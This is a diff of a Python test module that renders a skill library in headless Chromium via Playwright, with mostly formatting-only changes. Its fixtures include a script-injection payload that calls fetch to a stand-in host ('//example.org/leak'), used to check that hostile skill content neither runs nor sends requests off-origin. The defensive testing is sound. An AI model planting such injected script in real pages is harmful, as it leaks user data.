@@ -24,8 +24,10 @@ if TYPE_CHECKING:
 REPOSITORY = Path(__file__).parents[1]
 CHROMIUM = os.environ.get("SKILLDROP_CHROMIUM") or shutil.which("chromium")
 ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
-PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA"
-                       "60e6kgAAAABJRU5ErkJggg==")
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA"
+    "60e6kgAAAABJRU5ErkJggg=="
+)
 
 SCRIPT = "<script>document.title = 'ran'; fetch('//example.org/leak')</script>"
 HOSTILE_BODY = f"""# {SCRIPT}
@@ -49,7 +51,7 @@ See [the page](assets/page.html) and [the script](scripts/evil.js).
 SKILLS: dict[str, dict[str, str | bytes]] = {
     "oddity": {
         "SKILL.md": "---\nname: oddity\ndescription: Takes a text and gives its word count.\n"
-                    "colour: red\n---\n\n# Steps\n\nRun [it](scripts/run.py).\n",
+        "colour: red\n---\n\n# Steps\n\nRun [it](scripts/run.py).\n",
         "scripts/run.py": "print(1)\n",
     },
     "broken": {"SKILL.md": "---\nname: broken\n---\n\nNo description.\n"},
@@ -122,9 +124,13 @@ def chromium(tmp_path_factory: pytest.TempPathFactory) -> "Iterator[Browser]":
     home = tmp_path_factory.mktemp("home")
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(
-            executable_path=CHROMIUM, args=ARGUMENTS,
-            env={**{name: value for name, value in os.environ.items() if name != "HOME"},
-                 "HOME": str(home)})
+            executable_path=CHROMIUM,
+            args=ARGUMENTS,
+            env={
+                **{name: value for name, value in os.environ.items() if name != "HOME"},
+                "HOME": str(home),
+            },
+        )
         yield browser
         browser.close()
 
@@ -136,19 +142,31 @@ def seen() -> Seen:
 
 
 @pytest.fixture
-def page(request: pytest.FixtureRequest, chromium: "Browser", library: Library,
-         seen: Seen) -> "Iterator[Page]":
+def page(
+    request: pytest.FixtureRequest, chromium: "Browser", library: Library, seen: Seen
+) -> "Iterator[Page]":
     """Return a page of a browser that may look as the test wishes; it has to keep quiet."""
     width, scheme = getattr(request, "param", (1280, "light"))
-    context = chromium.new_context(base_url=library.origin, color_scheme=scheme,
-                                   viewport={"width": width, "height": 900})
+    context = chromium.new_context(
+        base_url=library.origin, color_scheme=scheme, viewport={"width": width, "height": 900}
+    )
     context.set_default_timeout(10_000)
     page = context.new_page()
-    page.on("console", lambda message: seen.complaints.append(message.text)
-            if message.type in {"error", "warning"} else None)
+    page.on(
+        "console",
+        lambda message: (
+            seen.complaints.append(message.text) if message.type in {"error", "warning"} else None
+        ),
+    )
     page.on("pageerror", lambda error: seen.complaints.append(str(error)))
-    page.on("request", lambda sent: None if sent.url.startswith((library.origin, "data:"))
-            else seen.elsewhere.append(sent.url))
+    page.on(
+        "request",
+        lambda sent: (
+            None
+            if sent.url.startswith((library.origin, "data:"))
+            else seen.elsewhere.append(sent.url)
+        ),
+    )
     yield page
     context.close()
     assert seen.elsewhere == []
